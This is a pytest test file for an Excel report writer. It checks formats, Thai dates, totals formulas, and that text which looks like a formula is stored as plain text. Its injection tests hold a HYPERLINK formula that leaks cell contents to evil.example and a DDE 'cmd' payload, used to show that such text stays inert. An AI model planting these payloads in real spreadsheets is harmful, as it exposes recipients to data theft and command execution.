"""The sheet writer: header, frozen row, filter, widths, number formats, dates, totals as
formulas, and text that looks like a formula kept as text."""

import copy
import datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.utils import timezone
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from reports.excel import finishing, sheets, writer
from reports.excel.writer import (
    DATE,
    DATETIME,
    INTEGER,
    MONEY,
    NUMBER,
    PERCENT,
    TEXT,
    Book,
    Column,
    Formula,
    is_formula_like,
    sheet_title,
)
from tests.reports.excel_helpers import cell_xml, decimal, open_book, rows_of, sheet_xml

COLUMNS = [
    Column("ชื่อโครงการ", TEXT, width=40),
    Column("จำนวน", INTEGER, width=8, total=True),
    Column("งบประมาณ (บาท)", MONEY, width=16, total=True),
    Column("คะแนน", NUMBER),
    Column("สัดส่วน", PERCENT),
    Column("วันที่", DATE),
    Column("ยื่นเมื่อ", DATETIME),
]
SUBMITTED = datetime.datetime(2025, 3, 4, 2, 30, 15, 999999, tzinfo=datetime.UTC)
ROWS = [
    ["ระบบฐานข้อมูลเมือง", 3, Decimal("1234567.89"), Decimal("72.50"), Decimal("0.2778"),
     datetime.date(2025, 1, 31), SUBMITTED],
    ["โครงการที่สอง", 1, Decimal("0.10"), None, None, None, None],
]  # fmt: skip


def write(columns=COLUMNS, rows=ROWS, **kwargs):
    book = Book()
    written = book.add_sheet("ทะเบียน", columns, rows, **kwargs)
    return written, book.content()


def test_a_sheet_has_its_header_frozen_filtered_and_its_columns_sized():
    written, content = write()
    sheet = open_book(content)["ทะเบียน"]
    assert rows_of(sheet)[0] == [str(column.header) for column in COLUMNS]
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G3"
    assert [sheet.column_dimensions[letter].width for letter in "ABC"] == [40, 8, 16]
    assert (written.first_row, written.last_row, written.count, written.totals_row) == (
        2,
        3,
        2,
        None,
    )


def test_values_keep_their_type_and_number_format():
    _written, content = write()
    sheet = open_book(content).active
    first = [cell for cell in sheet[2]]
    assert first[0].value == "ระบบฐานข้อมูลเมือง"
    assert first[1].value == 3 and first[1].number_format == "#,##0"
    assert decimal(first[2].value) == Decimal("1234567.89")
    assert first[2].number_format == "#,##0.00"
    assert decimal(first[3].value) == Decimal("72.50") and first[3].number_format == "0.00"
    assert decimal(first[4].value) == Decimal("0.2778") and first[4].number_format == "0.00%"
    assert first[5].value == datetime.datetime(2025, 1, 31)  # a real date, not text
    assert first[5].number_format == "[$-107041E]d/m/yyyy"
    # Written in Bangkok time, without the zone, to the second.
    assert first[6].value == datetime.datetime(2025, 3, 4, 9, 30, 15)
    assert first[6].number_format == "[$-107041E]d/m/yyyy hh:mm"
    assert [cell.value for cell in sheet[3]][3:] == [None, None, None, None]


def test_the_totals_row_sums_the_asked_columns_with_formulas():
    written, content = write(totals=True)
    sheet = open_book(content).active
    assert written.totals_row == 4
    totals = [cell.value for cell in sheet[4]]
    assert totals == ["รวม", "=SUM(B2:B3)", "=SUM(C2:C3)", None, None, None, None]
    assert sheet["C4"].number_format == "#,##0.00"
    assert sheet["C4"].font.bold
    # The filter covers the data, not the totals.
    assert sheet.auto_filter.ref == "A1:G3"


def test_a_sheet_without_rows_totals_zero_without_a_formula():
    written, content = write(rows=[], totals=True)
    sheet = open_book(content).active
    assert rows_of(sheet)[1] == ["รวม", 0, 0, None, None, None, None]
    assert sheet.auto_filter.ref == "A1:G1"
    assert (written.count, written.totals_row) == (0, 2)


def test_rows_may_come_from_a_generator_and_formulas_get_their_row_number():
    columns = [Column("ก", MONEY), Column("ข", MONEY), Column("รวม", MONEY, total=True)]
    rows = ([Decimal(n), Decimal(n * 2), Formula("=SUM(A{row}:B{row})")] for n in range(1, 4))
    _written, content = write(columns, rows, totals=True)
    sheet = open_book(content).active
    assert [row[2] for row in rows_of(sheet)[1:]] == [
        "=SUM(A2:B2)",
        "=SUM(A3:B3)",
        "=SUM(A4:B4)",
        "=SUM(C2:C4)",
    ]


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")',
    "+1",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "＝1+1",
    "#N/A",
    "#REF!",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_that_looks_like_a_formula_is_stored_as_text(text):
    columns = [Column("ข้อความ"), Column("เงิน", MONEY, total=True)]
    _written, content = write(columns, [[text, Decimal("5")]], totals=True)
    sheet = open_book(content).active
    assert sheet["A2"].value == text.replace("\r", "\n")  # a line end, as XML reads it
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].quotePrefix  # Excel keeps it text even when someone edits the cell
    xml = sheet_xml(content)
    injected = cell_xml(xml, "A2")
    assert 't="inlineStr"' in injected and "<f>" not in injected
    # Only our own totals are formulas.
    assert xml.count("<f>") == 1
    assert "<f>SUM(B2:B2)</f>" in cell_xml(xml, "B3")


@pytest.mark.parametrize(
    "text", ["ระบบฐานข้อมูลเมือง", "#hashtag", "ราคา -5 บาท", "a@b.example", "2568"]
)
def test_ordinary_text_is_written_as_it_is(text):
    _written, content = write([Column("ข้อความ")], [[text]])
    cell = open_book(content).active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", False)


def test_a_header_from_user_text_is_text_too():
    _written, content = write([Column("=cmd|' /C calc'!A0", MONEY)], [[Decimal("1")]])
    header = open_book(content).active["A1"]
    assert (header.value, header.data_type, header.quotePrefix) == ("=cmd|' /C calc'!A0", "s", True)
    assert "<f>" not in sheet_xml(content)


def test_text_in_a_number_column_is_text_too():
    _written, content = write([Column("เงิน", MONEY)], [["=1+1"]])
    sheet = open_book(content).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("=1+1", "s")
    assert "<f>" not in sheet_xml(content)


@pytest.mark.parametrize(
    ("text", "looks"),
    [
        ("=A1", True),
        (" \t+1", True),
        ("ราคา -5 บาท", False),
        ("1-2", False),
        ("e-mail: a@b.example", False),
        ("", False),
    ],
)
def test_what_looks_like_a_formula(text, looks):
    assert is_formula_like(text) is looks


def test_control_characters_that_a_sheet_cannot_hold_are_removed_and_line_ends_unified():
    _written, content = write([Column("ข้อความ")], [["ก\x00ข\x0bค\tง\r\nจ\rฉ"]])
    assert open_book(content).active["A2"].value == "กขค\tง\nจ\nฉ"


def test_a_cell_holds_at_most_32767_characters():
    _written, content = write([Column("ข้อความ")], [["ก" * 40000]])
    assert open_book(content).active["A2"].value == "ก" * 32767


def test_several_sheets_refer_to_each_other():
    book = Book()
    detail = book.add_sheet("รายละเอียด", [Column("เงิน", MONEY)], [[Decimal("1")], [Decimal("2")]])
    reference = detail.column_range(0)
    book.add_sheet("สรุป", [Column("รวม", MONEY)], [[Formula(f"=SUM({reference})")]])
    workbook = open_book(book.content())
    assert workbook.sheetnames == ["รายละเอียด", "สรุป"]
    assert workbook["สรุป"]["A2"].value == "=SUM('รายละเอียด'!$A$2:$A$3)"


def test_sheet_titles_keep_to_what_excel_accepts():
    assert sheet_title("งบ: ปี/หมวด [ร่าง]") == "งบ  ปี หมวด  ร่าง"
    assert len(sheet_title("ก" * 40)) == 31


def test_a_column_kind_must_be_known():
    with pytest.raises(ValueError, match="unknown column kind"):
        Column("x", "currency")


def test_a_formula_starts_with_an_equals_sign():
    with pytest.raises(ValueError, match="starts with"):
        Formula("SUM(A1:A2)")


def test_aware_datetimes_of_the_database_are_written_in_local_time(settings):
    moment = timezone.make_aware(datetime.datetime(2025, 10, 1, 0, 15))
    _written, content = write([Column("เวลา", DATETIME)], [[moment]])
    assert open_book(content).active["A2"].value == datetime.datetime(2025, 10, 1, 0, 15)


def test_dates_show_the_buddhist_era_in_thai_and_the_common_era_in_english():
    from django.utils import translation

    from reports.excel.writer import DATE, DATETIME, number_format

    with translation.override("th"):
        assert number_format(DATE) == "[$-107041E]d/m/yyyy"
        assert number_format(DATETIME) == "[$-107041E]d/m/yyyy hh:mm"
    with translation.override("en"):
        assert number_format(DATE) == "d/m/yyyy"


def openpyxls_sheet(workbook, title):
    """A write-only sheet of openpyxl's own whose `append` is given what it is usually given:
    plain text as a value (openpyxl works its type out), a styled cell as a new cell."""
    sheet = workbook.create_sheet(title)
    append = sheet.append

    def usual(cell):
        if cell is None or cell.has_style:
            return copy.copy(cell)
        return cell.value

    sheet.append = lambda row: append([usual(cell) for cell in row])
    return sheet


def test_the_sheet_writes_the_cells_as_openpyxls_own_append_would(monkeypatch):
    # The writer's sheet takes its converters' cells without openpyxl's second look at their
    # type (reports/excel/sheets.py): the XML must be what openpyxl's append writes.
    columns = [*COLUMNS, Column("ข้อความ"), Column("เงิน", MONEY, total=True)]
    rows = [[*row, text, Decimal(index)] for row in ROWS for index, text in enumerate(INJECTIONS)]
    rows.append([gettext_lazy("Total"), True, 2.5, 7, "ก\x00ข", "", "x" * 40000, "", None])
    rows.append([None, None, None, None, None, None, None, "#hashtag", Formula("=1+1", value=2)])
    _written, ours = write(columns, rows, totals=True)
    monkeypatch.setattr(writer, "add_cell_sheet", openpyxls_sheet)
    _written, openpyxls = write(columns, rows, totals=True)
    assert sheet_xml(ours) == sheet_xml(openpyxls)
    assert sheet_xml(ours).count("<f>") == 4  # the row's and three totals


def test_a_row_of_the_writers_sheet_holds_only_cells():
    sheet = sheets.add_cell_sheet(Book().workbook, "ทะเบียน")
    with pytest.raises(TypeError, match="holds cells"):
        list(sheet._values_to_row(["text"], 2))


@pytest.mark.parametrize("tail", [finishing.TAIL, 100])
def test_formulas_are_saved_with_their_values_near_the_end_or_further_up(monkeypatch, tail):
    # With the first formula's row in the last `tail` bytes, only the end of the sheet is
    # rewritten; further up, the sheet is copied up to it.
    monkeypatch.setattr(finishing, "TAIL", tail)
    columns = [Column("ข้อความ"), Column("เงิน", MONEY, total=True)]
    rows = [["ก" * 30, Formula("=1+1", value=2)], *[["ข" * 30, Decimal(n)] for n in range(40)]]
    _written, content = write(columns, rows, totals=True)
    sheet = load_workbook(BytesIO(content), data_only=True).active
    assert (sheet["B2"].value, sheet["B43"].value) == (2, sum(range(40)) + 2)
    assert open_book(content).active["B43"].value == "=SUM(B2:B42)"
